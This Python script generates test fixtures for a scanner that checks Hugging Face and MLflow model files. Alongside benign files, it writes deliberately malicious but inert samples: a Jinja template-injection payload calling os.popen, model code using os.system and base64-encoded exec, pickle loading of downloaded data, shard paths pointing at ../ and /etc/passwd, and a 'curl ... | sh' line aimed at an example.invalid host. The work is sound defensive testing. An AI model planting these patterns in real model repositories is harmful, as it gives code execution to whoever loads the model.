"""Writes the Hugging Face / MLflow metadata fixtures into scanner/hf/testdata/.

Run from the repository root:  python3 testdata/gen/hf_fixtures.py

Standard library only (Python 3.11); the output is deterministic, so
re-running it leaves the tree unchanged. Every fixture sits in its own
directory because the scanner recognises files by their base name
(config.json, tokenizer_config.json, chat_template.jinja, MLmodel,
modeling_*.py, *.safetensors.index.json, ...). The rule IDs each must yield
are listed in scanner/hf/hf_test.go.

SAFETY. Nothing here is ever imported, rendered or loaded. The "malicious"
files are inert: commands are `echo modelgate-fixture`, hosts are under
example.invalid, the base64 payload decodes to `print('modelgate-fixture')`.

Outputs (scanner/hf/testdata/<case>/<file>):
  benign/                 config.json, tokenizer_config.json (a ChatML template
                          written for these fixtures), chat_template.jinja,
                          model.safetensors.index.json,
                          pytorch_model.bin.index.json
  benign-code/            modeling_tiny.py, configuration_tiny.py,
                          tokenization_tiny.py: clean code (strings and
                          comments that mention dangerous calls)
  benign-nan/config.json  NaN, Infinity and a duplicate key (Python accepts)
  not-hf/config.json      somebody else's config.json with comments (ignored)
  mlflow-onnx/MLmodel     built-in loader, data-only model
  auto-map/               config.json with auto_map
  auto-map-external/      config.json with an "org/repo--module.Class" reference
  auto-map-tokenizer/     tokenizer_config.json with an AutoTokenizer list
  custom-pipelines/       config.json with custom_pipelines
  ssti-string/            tokenizer_config.json, chat_template string escape
  ssti-list/              tokenizer_config.json, list of named templates
  ssti-json/              chat_template.json
  ssti-jinja/             chat_template.jinja
  index-traversal/        model.safetensors.index.json with ../, absolute and URL shards
  index-metadata/         pytorch_model.bin.index.json with a shell command and a URL in metadata
  remote-code/            modeling_evil.py (os.system, base64 + exec),
                          configuration_evil.py (requests, pickle, torch.load)
  mlflow-loader/MLmodel   custom loader_module with shipped code
  mlflow-sklearn/MLmodel  sklearn flavor, serialization_format cloudpickle
  mlflow-pyfunc/MLmodel   python_model pickle
  malformed-config/       config.json with a trailing comma
  malformed-index/        a truncated index
  malformed-mlmodel/      MLmodel with broken YAML
"""
import base64
import json
import os
import shutil

OUT = os.path.join("scanner", "hf", "testdata")

CHATML = (
    "{% for message in messages %}"
    "{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}"
    "{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

# A template that keeps state the way Qwen-style templates do (namespace()).
TOOL_TEMPLATE = (
    "{%- set ns = namespace(system='') -%}\n"
    "{%- for message in messages -%}\n"
    "{%- if message['role'] == 'system' -%}{%- set ns.system = message['content'] -%}{%- endif -%}\n"
    "{%- endfor -%}\n"
    "{{ ns.system }}\n"
)

SSTI = "{{ cycler.__init__.__globals__.os.popen('echo modelgate-fixture').read() }}"

CONFIG = {
    "architectures": ["TinyForCausalLM"],
    "model_type": "tiny",
    "hidden_size": 64,
    "num_attention_heads": 4,
    "num_hidden_layers": 2,
    "vocab_size": 1000,
    "torch_dtype": "float32",
    "transformers_version": "4.44.0",
}

TOKENIZER = {
    "add_bos_token": False,
    "bos_token": None,
    "eos_token": "<|im_end|>",
    "pad_token": "<|endoftext|>",
    "model_max_length": 2048,
    "tokenizer_class": "PreTrainedTokenizerFast",
    "chat_template": CHATML,
}


def index(weight_map, metadata=None):
    return {"metadata": metadata or {"total_size": 1048576}, "weight_map": weight_map}


BENIGN_MODELING = '''"""Tiny causal LM used as a test fixture.

The docstring mentions os.system("...") and eval(...) on purpose: comments
and strings are not code.
"""
import torch
from torch import nn

from .configuration_tiny import TinyConfig


class TinyForCausalLM(nn.Module):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__()
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.head = nn.Linear(config.hidden_size, config.vocab_size)

    def eval(self):  # a method called eval is fine
        return super().eval()

    def forward(self, input_ids):
        # exec( in a comment is fine too
        return self.head(self.embed(input_ids))

    @classmethod
    def from_checkpoint(cls, config, path):
        model = cls(config)
        model.load_state_dict(torch.load(path, map_location="cpu", weights_only=True))
        model.eval()
        return model
'''

BENIGN_CONFIGURATION = '''from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, vocab_size=1000, hidden_size=64, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''

# Strings and comments that mention dangerous calls, in every quoting
# style: the masking must not lose track of where code is. Built line by
# line to keep the quoting readable here.
Q3 = "'" * 3
BENIGN_TOKENIZATION = "\n".join([
    "import json",
    "import os",
    "",
    'PATTERN = r"\\"exec(\\"\\\\"  # a raw string with escaped quotes',
    "DOC = " + Q3 + "It's \"quoted\" and mentions subprocess.run(['ls']) and eval(\"x\")" + Q3,
    'OTHER = """Also ' + Q3 + " inside, and os.system('x')" + '"""',
    "MSG = f\"{'nested'} {os.sep} exec(\"",
    "WIN = 'C:\\\\path\\\\'  # a string ending in an escaped backslash",
    "",
    "",
    "class TinyTokenizer:",
    "    def __init__(self, vocab_file):",
    '        with open(vocab_file, encoding="utf-8") as f:  # eval( in a comment',
    "            self.vocab = json.load(f)",
    "        self.decoder = {v: k for k, v in self.vocab.items()}",
    "",
    "    def decode(self, ids):",
    '        return "".join(self.decoder[i] for i in ids)',
    "",
])

PAYLOAD = base64.b64encode(b"print('modelgate-fixture')").decode()

EVIL_MODELING = f'''import base64
import os

import torch
from torch import nn

os.system("echo modelgate-fixture")


class EvilForCausalLM(nn.Module):
    def __init__(self, config):
        super().__init__()
        exec(base64.b64decode("{PAYLOAD}"))
        self.head = nn.Linear(4, 4)
'''

EVIL_CONFIGURATION = '''import pickle

import requests
import torch
from transformers import PretrainedConfig


class EvilConfig(PretrainedConfig):
    model_type = "evil"

    def __init__(self, **kwargs):
        blob = requests.get("https://example.invalid/blob").content
        self.extra = pickle.loads(blob)
        self.state = torch.load("extra.bin")
        super().__init__(**kwargs)
'''

MLMODEL_ONNX = """artifact_path: model
flavors:
  onnx:
    code: null
    data: model.onnx
    onnx_version: 1.16.0
    providers:
    - CPUExecutionProvider
  python_function:
    data: model.onnx
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.onnx
    python_version: 3.11.7
mlflow_version: 2.16.0
model_uuid: 00000000000000000000000000000001
utc_time_created: '2024-01-01 00:00:00.000000'
"""

MLMODEL_LOADER = """artifact_path: model
flavors:
  python_function:
    code: code
    data: data
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: custom_loader
    python_version: 3.11.7
mlflow_version: 2.16.0
model_uuid: 00000000000000000000000000000002
"""

MLMODEL_SKLEARN = """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.4.2
mlflow_version: 2.16.0
model_uuid: 00000000000000000000000000000003
"""

MLMODEL_PYFUNC = """artifact_path: model
flavors:
  python_function:
    cloudpickle_version: 3.0.0
    code: null
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.11.7
mlflow_version: 2.16.0
model_uuid: 00000000000000000000000000000004
"""

MLMODEL_BROKEN = """artifact_path: model
flavors:
  python_function:
    loader_module: mlflow.sklearn
   bad_indent: [unclosed
"""

NOT_HF_CONFIG = """{
  // an application config that happens to be called config.json
  "port": 8080,
  "debug": true,
}
"""


def dumps(obj):
    return json.dumps(obj, indent=2) + "\n"


def files():
    yield "benign/config.json", dumps(CONFIG)
    yield "benign/tokenizer_config.json", dumps(TOKENIZER)
    yield "benign/chat_template.jinja", TOOL_TEMPLATE
    yield "benign/model.safetensors.index.json", dumps(index({
        "embed.weight": "model-00001-of-00002.safetensors",
        "head.weight": "model-00002-of-00002.safetensors",
    }))
    yield "benign/pytorch_model.bin.index.json", dumps(index({
        "embed.weight": "pytorch_model-00001-of-00002.bin",
        "head.weight": "pytorch_model-00002-of-00002.bin",
    }))
    yield "benign-code/modeling_tiny.py", BENIGN_MODELING
    yield "benign-code/configuration_tiny.py", BENIGN_CONFIGURATION
    yield "benign-code/tokenization_tiny.py", BENIGN_TOKENIZATION
    yield "benign-nan/config.json", (
        '{"model_type": "tiny", "layer_norm_eps": NaN, "max_value": Infinity,\n'
        ' "min_value": -Infinity, "hidden_size": 64, "hidden_size": 128}\n')
    yield "not-hf/config.json", NOT_HF_CONFIG
    yield "mlflow-onnx/MLmodel", MLMODEL_ONNX

    yield "auto-map/config.json", dumps({**CONFIG, "auto_map": {
        "AutoConfig": "configuration_evil.EvilConfig",
        "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM",
    }})
    yield "auto-map-external/config.json", dumps({**CONFIG, "auto_map": {
        "AutoConfig": "configuration_tiny.TinyConfig",
        "AutoModelForCausalLM": "attacker-org/other-repo--modeling_x.XForCausalLM",
    }})
    yield "auto-map-tokenizer/tokenizer_config.json", dumps({**TOKENIZER, "auto_map": {
        "AutoTokenizer": ["tokenization_evil.EvilTokenizer", None],
    }})
    yield "custom-pipelines/config.json", dumps({**CONFIG, "custom_pipelines": {
        "text-classification": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModelForSequenceClassification"], "tf": []},
    }})
    yield "ssti-string/tokenizer_config.json", dumps({**TOKENIZER, "chat_template": CHATML + "\n" + SSTI})
    yield "ssti-list/tokenizer_config.json", dumps({**TOKENIZER, "chat_template": [
        {"name": "default", "template": CHATML},
        {"name": "tool_use", "template": TOOL_TEMPLATE + SSTI},
    ]})
    yield "ssti-json/chat_template.json", dumps({"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}" + SSTI})
    yield "ssti-jinja/chat_template.jinja", TOOL_TEMPLATE + "{# greeting #}\n  " + SSTI + "\n"
    yield "index-traversal/model.safetensors.index.json", dumps(index({
        "embed.weight": "model-00001-of-00003.safetensors",
        "head.weight": "../../../../home/user/.cache/other/model.safetensors",
        "norm.weight": "/etc/passwd",
        "extra.weight": "https://example.invalid/model-00003-of-00003.safetensors",
    }))
    yield "index-metadata/pytorch_model.bin.index.json", dumps(index(
        {"embed.weight": "pytorch_model-00001-of-00001.bin"},
        {"total_size": 1024, "note": "curl https://example.invalid/x.sh | sh", "source": "see https://example.invalid/docs"},
    ))
    yield "remote-code/modeling_evil.py", EVIL_MODELING
    yield "remote-code/configuration_evil.py", EVIL_CONFIGURATION
    yield "mlflow-loader/MLmodel", MLMODEL_LOADER
    yield "mlflow-sklearn/MLmodel", MLMODEL_SKLEARN
    yield "mlflow-pyfunc/MLmodel", MLMODEL_PYFUNC
    yield "malformed-config/config.json", dumps(CONFIG)[:-3] + ",\n}\n"
    yield "malformed-index/model.safetensors.index.json", dumps(index({"a.weight": "model.safetensors"}))[:40]
    yield "malformed-mlmodel/MLmodel", MLMODEL_BROKEN


def main():
    generated = list(files())
    for case in {name.split("/")[0] for name, _ in generated}:
        if os.path.isdir(os.path.join(OUT, case)):
            shutil.rmtree(os.path.join(OUT, case))
    for name, text in generated:
        path = os.path.join(OUT, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            f.write(text)
        print(name)


if __name__ == "__main__":
    main()
